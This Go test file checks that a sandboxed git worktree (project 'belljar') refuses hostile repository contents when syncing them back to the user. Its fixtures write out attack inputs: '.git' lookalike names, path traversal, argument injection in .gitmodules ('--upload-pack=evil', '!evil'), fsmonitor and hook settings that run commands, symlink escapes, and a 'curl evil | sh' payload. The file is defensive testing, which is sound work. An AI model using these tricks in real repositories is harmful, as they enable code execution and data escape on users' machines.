package worktree

import (
	"bytes"
	"compress/zlib"
	"context"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/belljar-dev/belljar/workspace/internal/ignore"
	"github.com/belljar-dev/belljar/workspace/internal/objects"
)

// forge puts an object into the worktree's repository as it is, and gives its name.
func (l *lab) forge(t objects.Type, b []byte) string {
	l.t.Helper()
	id := objects.Sum(t, b, 20)
	l.forgeAs(id, t, b)
	return id
}

func (l *lab) forgeAs(id string, t objects.Type, b []byte) {
	l.t.Helper()
	r, err := os.OpenRoot(Tree(l.made) + "/.git/objects")
	if err != nil {
		l.t.Fatal(err)
	}
	defer r.Close()
	name := hex.EncodeToString([]byte(id))
	_ = r.Mkdir(name[:2], 0o700)
	_ = r.Remove(name[:2] + "/" + name[2:])
	if err := writeLoose(r, name[:2]+"/"+name[2:], t, b); err != nil {
		l.t.Fatal(err)
	}
}

const ident = "x <x@x> 1700000000 +0000"

// commit forges a commit of a tree and makes it the branch.
func (l *lab) commit(tree string) {
	l.t.Helper()
	l.branch(l.forge(objects.Commit, fmt.Appendf(nil, "tree %x\nparent %s\nauthor %s\ncommitter %s\n\nx\n", tree, l.info.Base, ident, ident)))
}

func (l *lab) branch(id string) {
	l.t.Helper()
	if err := os.WriteFile(Tree(l.made)+"/.git/"+l.info.Ref(), fmt.Appendf(nil, "%x\n", id), 0o600); err != nil {
		l.t.Fatal(err)
	}
}

func treeOf(mode, name, id string) []byte { return []byte(mode + " " + name + "\x00" + id) }

// refusals are what somebody inside may make of the repository; none of it comes home.
func refusals() map[string]func(l *lab) {
	tree := func(b func(blob string) []byte) func(l *lab) {
		return func(l *lab) { l.commit(l.forge(objects.Tree, b(l.forge(objects.Blob, []byte("evil"))))) }
	}
	named := func(name string) func(l *lab) {
		return tree(func(id string) []byte { return treeOf("100644", name, id) })
	}
	modules := func(text string) func(l *lab) {
		return func(l *lab) {
			l.commit(l.forge(objects.Tree, treeOf("100644", ".gitmodules", l.forge(objects.Blob, []byte(text)))))
		}
	}
	shell := func(script string) func(l *lab) {
		return func(l *lab) { l.in("echo x > x; git add x; git commit -qm x; " + script) }
	}
	raw := func(text string) func(l *lab) {
		return func(l *lab) {
			l.branch(l.forge(objects.Commit, []byte(strings.ReplaceAll(text, "TREE", l.forgeTree()))))
		}
	}
	return map[string]func(l *lab){
		"git folder": func(l *lab) {
			in := l.forge(objects.Tree, treeOf("100644", "config", l.forge(objects.Blob, []byte("[core]\n\tfsmonitor = evil\n"))))
			l.commit(l.forge(objects.Tree, treeOf("40000", ".git", in)))
		},
		"git folder deep": func(l *lab) {
			in := l.forge(objects.Tree, treeOf("40000", ".git", l.forge(objects.Tree, treeOf("100644", "config", l.forge(objects.Blob, nil)))))
			l.commit(l.forge(objects.Tree, treeOf("40000", "a", in)))
		},
		"git file":         named(".git"),
		"git in capitals":  named(".GIT"),
		"git of NTFS":      named("git~1"),
		"git with a point": named(".git. "),
		"git stream":       named(".git::$INDEX_ALLOCATION"),
		"git of HFS":       named(".g\u200cit"),
		"git by backslash": named(`a\.git\config`),
		"parent":           named(".."),
		"itself":           named("."),
		"slash":            named("../../evil"),
		"nothing":          named(""),
		"strange mode":     tree(func(id string) []byte { return treeOf("100777", "a", id) }),
		"padded mode":      tree(func(id string) []byte { return treeOf("0100644", "a", id) }),
		"no order":         tree(func(id string) []byte { return append(treeOf("100644", "b", id), treeOf("100644", "a", id)...) }),
		"twice":            tree(func(id string) []byte { return append(treeOf("100644", "a", id), treeOf("100644", "a", id)...) }),
		"file and folder": tree(func(id string) []byte {
			return slices.Concat(treeOf("100644", "a", id), treeOf("100644", "a-", id), treeOf("40000", "a", id))
		}),
		"cut tree":        tree(func(id string) []byte { return []byte("100644 a\x00abc") }),
		"modules link":    tree(func(id string) []byte { return treeOf("120000", ".gitmodules", id) }),
		"modules name":    modules("[submodule \"../../hooks\"]\n\tpath = a\n\turl = b\n"),
		"modules url":     modules("[submodule \"a\"]\n\tpath = a\n\turl = --upload-pack=evil\n"),
		"modules path":    modules("[submodule \"a\"]\n\tpath = -x\n\turl = b\n"),
		"modules command": modules("[submodule \"a\"]\n\tpath = a\n\turl = b\n\tupdate = !evil\n"),
		"no author":       raw("tree TREE\ncommitter " + ident + "\n\nx\n"),
		"no date":         raw("tree TREE\nauthor x <x>\ncommitter x <x>\n\nx\n"),
		"NUL":             raw("tree TREE\nauthor " + ident + "\ncommitter " + ident + "\n\nx\x00y\n"),
		"no tree":         raw("author " + ident + "\ncommitter " + ident + "\n\nx\n"),
		"tree is a file":  func(l *lab) { l.commit(l.forge(objects.Blob, []byte("evil"))) },
		"file is a tree": func(l *lab) {
			l.commit(l.forge(objects.Tree, treeOf("100644", "a", l.forge(objects.Tree, nil))))
		},
		"folder is a commit of the user": func(l *lab) {
			id, _ := hex.DecodeString(l.info.Base)
			l.commit(l.forge(objects.Tree, treeOf("40000", "a", string(id))))
		},
		"false name": func(l *lab) {
			id := objects.Sum(objects.Blob, []byte("good"), 20)
			l.forgeAs(id, objects.Blob, []byte("evil"))
			l.commit(l.forge(objects.Tree, treeOf("100644", "a", id)))
		},
		"missing": func(l *lab) {
			l.commit(l.forge(objects.Tree, treeOf("100644", "a", objects.Sum(objects.Blob, []byte("nowhere"), 20))))
		},
		"large": func(l *lab) {
			l.commit(l.forge(objects.Tree, treeOf("100644", "a", l.forge(objects.Blob, make([]byte, maxBlob+1)))))
		},
		"branch is a tree":   func(l *lab) { l.branch(l.forge(objects.Tree, nil)) },
		"branch is text":     shell(`echo "ref: refs/heads/main" > .git/refs/heads/belljar/one`),
		"branch is a link":   shell(`cp .git/refs/heads/belljar/one "$PROJECT/../tip"; ln -sf "$PROJECT/../tip" .git/refs/heads/belljar/one`),
		"branch is a pipe":   shell(`rm .git/refs/heads/belljar/one; mkfifo .git/refs/heads/belljar/one`),
		"folder is a link":   shell(`mv .git/refs/heads/belljar "$PROJECT/../b"; ln -s "$PROJECT/../b" .git/refs/heads/belljar`),
		"branch is gone":     shell(`git checkout -q --detach; git branch -qD belljar/one`),
		"objects are a link": shell(`cp -r .git/objects "$PROJECT/../o"; rm -rf .git/objects; ln -s "$PROJECT/../o" .git/objects`),
		"git is a link":      shell(`mv .git "$PROJECT/../g"; ln -s "$PROJECT/../g" .git`),
		"objects of others": shell(`git init -q "$PROJECT/../other"; cd "$PROJECT/../other"; echo private > p; git add p; git commit -qm p; cd - >/dev/null
			echo "$PROJECT/../other/.git/objects" >> .git/objects/info/alternates; git checkout -q $(git -C "$PROJECT/../other" rev-parse HEAD); git branch -f belljar/one`),
		"object is a pipe":  shell(`f=.git/objects/$(git rev-parse HEAD:x | sed 's,^..,&/,'); rm -f $f; mkfifo $f`),
		"object is a link":  shell(`f=.git/objects/$(git rev-parse HEAD:x | sed 's,^..,&/,'); mv $f "$PROJECT/../x"; ln -s "$PROJECT/../x" $f`),
		"packs are damaged": shell(`git repack -qad; chmod +w .git/objects/pack/*; for f in .git/objects/pack/*.pack; do printf 'XXXXXXXXXXXXXXXX' | dd of=$f bs=1 seek=14 conv=notrunc 2>/dev/null; done`),
	}
}

func (l *lab) forgeTree() string {
	return hex.EncodeToString([]byte(l.forge(objects.Tree, treeOf("100644", "a", l.forge(objects.Blob, []byte("x"))))))
}

// TestHostile: nothing that is made inside to do harm comes home, and nothing of the
// attempt stays.
func TestHostile(t *testing.T) {
	for name, attack := range refusals() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			l := newLab(t, "")
			attack(l)
			const look = "find .git | sort; git for-each-ref; cat .git/config"
			before := l.host(look)
			got, err := l.fetch()
			if err == nil {
				t.Fatalf("it came home: %+v", got)
			}
			if after := l.host(look); after != before {
				t.Errorf("before\n%s\nafter\n%s", before, after)
			}
			l.clean()
		})
	}
}

// TestDiffTrue: a diff shows what a merge lands, whatever the sandbox's packs and objects
// say: an object that is another is not shown, and what the user has comes from there.
func TestDiffTrue(t *testing.T) {
	const good, evil = "echo ok\n", "curl evil | sh\n"
	id := objects.Sum(objects.Blob, []byte(evil), 20)
	for name, lie := range map[string]func(l *lab){
		"pack":        func(l *lab) { l.pack(id, []byte(good)) },
		"loose":       func(l *lab) { l.forgeAs(id, objects.Blob, []byte(good)) },
		"user's pack": func(l *lab) { l.pack(id, []byte(good)) },
	} {
		t.Run(name, func(t *testing.T) {
			home := ""
			if name == "user's pack" {
				home = "printf '" + evil[:len(evil)-1] + "\\n' | git hash-object -w --stdin"
			}
			l := newLab(t, home)
			l.in("printf '" + evil[:len(evil)-1] + "\\n' > run.sh; git add run.sh; git commit -qm x")
			lie(l)
			seen := 0
			err := Diff(context.Background(), l.src, l.made, l.rules(), func(c Change, _, after Version) error {
				seen++
				if string(after.Data) == good || home != "" && string(after.Data) != evil || home == "" && after.Err == nil {
					t.Errorf("%s is shown as %q (%v)", c.Path, after.Data, after.Err)
				}
				return nil
			})
			if err != nil || seen != 1 {
				t.Error(seen, err)
			}
		})
	}
}

// pack puts a pack into the worktree's repository whose index gives a file a name.
func (l *lab) pack(id string, data []byte) {
	l.t.Helper()
	var z bytes.Buffer
	w := zlib.NewWriter(&z)
	w.Write(data)
	w.Close()
	b := append([]byte("PACK\x00\x00\x00\x02\x00\x00\x00\x01"), byte(objects.Blob<<4)|byte(len(data)))
	idx := []byte("\xfftOc\x00\x00\x00\x02")
	for i := range 256 {
		n := uint32(0)
		if i >= int(id[0]) {
			n = 1
		}
		idx = binary.BigEndian.AppendUint32(idx, n)
	}
	idx = append(append(idx, id...), 0, 0, 0, 0, 0, 0, 0, 12)
	dir := Tree(l.made) + "/.git/objects/pack/"
	for name, b := range map[string][]byte{"pack-1.pack": append(b, z.Bytes()...), "pack-1.idx": append(idx, make([]byte, 40)...)} {
		if err := errors.Join(os.MkdirAll(dir, 0o700), os.WriteFile(dir+name, b, 0o600)); err != nil {
			l.t.Fatal(err)
		}
	}
}

// TestBounds: trees and folders without end are looked at for as long as is reasonable,
// and no longer than somebody waits.
func TestBounds(t *testing.T) {
	l := newLab(t, "")
	tree := l.forge(objects.Tree, nil)
	for range 4 {
		var b []byte
		for i := range 1000 {
			b = append(b, treeOf("40000", fmt.Sprintf("%03d", i), tree)...)
		}
		tree = l.forge(objects.Tree, b)
	}
	tip := strings.TrimSpace(l.in("git rev-parse HEAD"))
	l.commit(tree)
	ctx := t.Context() // a walk without bounds ends with the time of the tests
	if _, err := Uncommitted(ctx, l.src, l.made, l.rules(), 10); !errors.Is(err, objects.ErrTooMuch) {
		t.Errorf("a tree of a billion folders: %v", err)
	}
	err := Diff(ctx, l.src, l.made, l.rules(), func(Change, Version, Version) error { return nil })
	if !errors.Is(err, objects.ErrTooMuch) {
		t.Errorf("its diff: %v", err)
	}
	ended, end := context.WithCancel(ctx)
	end()
	if _, err := Uncommitted(ended, l.src, l.made, l.rules(), 10); !errors.Is(err, context.Canceled) {
		t.Errorf("when nobody waits: %v", err)
	}
	l.in("echo " + tip + " > .git/" + l.info.Ref())
	deep := Tree(l.made) + strings.Repeat("/d", maxDepth+5)
	if err := os.MkdirAll(deep, 0o700); err != nil {
		t.Fatal(err)
	}
	if _, err := Uncommitted(ctx, l.src, l.made, l.rules(), 10); !errors.Is(err, objects.ErrTooMuch) {
		t.Errorf("folders too deep: %v", err)
	}
	if err := os.RemoveAll(Tree(l.made) + "/d"); err != nil {
		t.Fatal(err)
	}
	s := &survey{ctx: ctx, hash: 20, left: maxWalk, seen: map[string]bool{}, bytes: maxBytes - 1}
	s.changed = func(string, side, found) error { return nil }
	if s.in, err = openFolder(Tree(l.made)); err != nil {
		t.Fatal(err)
	}
	defer s.in.close()
	if err := s.walk(".", place{state: l.rules().Root()}, nil); !errors.Is(err, objects.ErrTooMuch) {
		t.Errorf("files of many bytes: %v", err)
	}
}

// TestHarmless: what else a repository says is not obeyed: only the branch and the
// objects behind it come home.
func TestHarmless(t *testing.T) {
	for name, script := range map[string]string{
		"other references": `git branch evil; git update-ref refs/heads/main HEAD; git update-ref refs/replace/$(git rev-parse HEAD~1) HEAD; git tag evil; git update-ref refs/remotes/origin/x HEAD`,
		"configuration":    `git config core.fsmonitor "touch $PROJECT/evil"; git config core.hooksPath hooks; git config filter.x.smudge "touch $PROJECT/evil"`,
		"hooks":            `for h in post-checkout post-merge reference-transaction pre-receive update post-update post-index-change; do printf '#!/bin/sh\ntouch '"$PROJECT"'/evil\n' > .git/hooks/$h; chmod +x .git/hooks/$h; done`,
		"shallow":          `git rev-parse HEAD > .git/shallow`,
		"grafts":           `echo "$(git rev-parse HEAD)" > .git/info/grafts`,
		"common directory": `echo "$PROJECT/../elsewhere" > .git/commondir; mkdir -p "$PROJECT/../elsewhere"`,
		"attributes":       `echo '* filter=x' > .git/info/attributes`,
		"packed":           `git gc -q --prune=now`,
		"many packs":       `for i in 1 2 3; do echo $i > f$i; git add f$i; git commit -qm $i; git repack -qd; done`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			l := newLab(t, "")
			l.in(`echo x > x; echo y >> a.txt; git add .; git commit -qm x; git rev-parse HEAD > "$PROJECT/../tip";` + script + `; [ ! -e f3 ] || git rev-parse HEAD > "$PROJECT/../tip"`)
			m := l.mergeWith(false)
			if m.Blocked != "" || m.Commit != strings.TrimSpace(l.host("cat ../tip")) {
				t.Errorf("%+v", m)
			}
			want := "refs/heads/belljar/one\nrefs/heads/main\nrefs/heads/side\nrefs/tags/v1\n"
			if got := l.host("git for-each-ref --format='%(refname)'"); got != want {
				t.Errorf("references: %s", got)
			}
			if _, err := os.Lstat(filepath.Join(l.src.Project, "evil")); err == nil {
				t.Error("something ran")
			}
			if got := l.host("git config --get core.fsmonitor || true; ls .git/hooks | grep -v sample || true; ls .git/shallow .git/info/grafts 2>/dev/null || true"); got != "" {
				t.Errorf("came home, too: %s", got)
			}
			l.clean()
		})
	}
}

// TestHostileHome: links in the user's own repository lead nowhere.
func TestHostileHome(t *testing.T) {
	for name, script := range map[string]string{
		"reference":  `mkdir -p .git/refs/heads ../out; ln -s ../../../../out .git/refs/heads/belljar`,
		"references": `git pack-refs --all; mv .git/refs/heads ../out; ln -s ../../../out .git/refs/heads`,
		"objects":    `mv .git/objects ../out; ln -s ../../out .git/objects`,
	} {
		l := newLab(t, "")
		l.in(`echo x > x; git add .; git commit -qm x`)
		l.host(script)
		before := l.host("find ../out | sort")
		if got, err := l.fetch(); err == nil {
			t.Errorf("%s: it came home: %+v", name, got)
		}
		if after := l.host("find ../out | sort"); after != before {
			t.Errorf("%s: before\n%s\nafter\n%s", name, before, after)
		}
	}
}

func FuzzParse(f *testing.F) {
	id := strings.Repeat("a", 20)
	f.Add(treeOf("100644", "a", id))
	f.Add(slices.Concat(treeOf("40000", "a", id), treeOf("120000", "b", id), treeOf("160000", "c", id)))
	f.Add([]byte("tree 4b825dc642cb6eb9a060e54bf8d69288fbee4904\nparent 4b825dc642cb6eb9a060e54bf8d69288fbee4904\nauthor " + ident + "\ncommitter " + ident + "\n\nx"))
	f.Add([]byte("[submodule \"a\"]\n\tpath = a\n\turl = b\n"))
	f.Add((&index{hash: 20, entries: []indexEntry{{id: id, path: "a"}, {id: id, path: "b/c", ext: extSkip, flags: 0x8000}}}).encode())
	f.Add([]byte("*.o\n!/a/**/b\n[!x]?\\ \n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		if es, err := parseTree(b, 20); err == nil {
			for _, e := range es {
				if e.name == ".." || strings.ContainsRune(e.name, '/') || strings.EqualFold(e.name, ".git") {
					t.Errorf("a tree with %q", e.name)
				}
			}
			if again, err := parseTree(encodeTree(slices.Clone(es)), 20); err != nil || !slices.Equal(es, again) {
				t.Errorf("a tree changes: %v", err)
			}
		}
		if c, err := parseCommit(b, 20); err == nil && (len(c.tree) != 20 || len(c.parents) > maxParents) {
			t.Errorf("a commit: %+v", c)
		}
		_, _ = looseCommit(b, 20)
		_ = checkModules(b)
		if x, err := parseIndex(b, 20); err == nil {
			again, err := parseIndex(x.encode(), 20)
			if err != nil || len(again.entries) != len(x.entries) || !bytes.Equal(again.encode(), x.encode()) {
				t.Errorf("an index changes: %v", err)
			}
		}
		ignore.Name(ignore.Parse("", string(b)), "a/b/c/"+strings.Repeat("d/", 40)+"x", false)
		_ = checkName(string(b))
		_ = validRef(string(b))
	})
}

// TestIgnore: as git ignores.
func TestIgnore(t *testing.T) {
	l := newLab(t, "")
	paths := []string{"a.o", "d/a.o", "build/x", "d/build/x", "keep.log", "x.log", "d/e/f/y", "d/f", "foo/bar", "q/foo/bar", "#h", "a b ", "!n", "ab", "xb"}
	text := "*.o\n/build/\n*.log\n!keep.log\nd/**/y\nfoo/bar\n\\#h\na\\ b\\ \n\\!n\n[!x]b\n"
	list := ignore.Parse("", text)
	l.host("cat > .gitignore <<'X'\n" + text + "X\n")
	for _, p := range paths {
		got := ignore.Name(list, p, false)
		for i, c := range p {
			if c == '/' && ignore.Name(list, p[:i], true) {
				got = true
			}
		}
		want := l.host("git check-ignore -q --no-index -- '"+p+"' && echo yes || echo no") == "yes\n"
		if got != want {
			t.Errorf("%q: ignored %v, git says %v", p, got, want)
		}
	}
}
